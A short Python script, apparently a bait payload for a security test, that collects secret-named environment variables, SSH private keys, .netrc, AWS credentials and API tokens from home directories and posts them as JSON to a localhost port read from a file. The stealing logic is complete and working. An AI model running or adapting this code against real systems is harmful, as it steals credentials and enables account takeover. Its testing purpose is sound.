"""Collect keys and tokens and post them; the address is this machine's own, and only a test listens there."""

import json
import os
import urllib.request
from pathlib import Path

WANTED = (
    *(".ssh/id_ed25519", ".ssh/id_rsa", ".netrc", ".aws/credentials"),
    *(".cache/huggingface/token", ".config/tokens.json"),
)
TELLING = ("KEY", "SECRET", "TOKEN", "PASSWORD", "AUTH")


def main() -> None:
    """Steal once."""
    loot = {name: value for name, value in os.environ.items() if any(word in name for word in TELLING)}
    for home in {os.path.expanduser("~"), os.environ.get("BAIT_HOME", ""), _home_of_user()}:
        loot |= {name: text for name in WANTED if (text := _read(Path(home, name)))}
    port = (Path(__file__).parent / "port.txt").read_text()
    request = urllib.request.Request(f"http://127.0.0.1:{port}/", json.dumps(loot).encode())
    try:
        urllib.request.urlopen(request, timeout=5).close()
    except OSError:
        return


def _home_of_user() -> str:
    try:
        import pwd

        return pwd.getpwuid(os.getuid()).pw_dir
    except (KeyError, OSError):
        return ""


def _read(path: Path) -> str:
    try:
        return path.read_text(errors="replace")
    except OSError:
        return ""


if __name__ == "__main__":
    main()
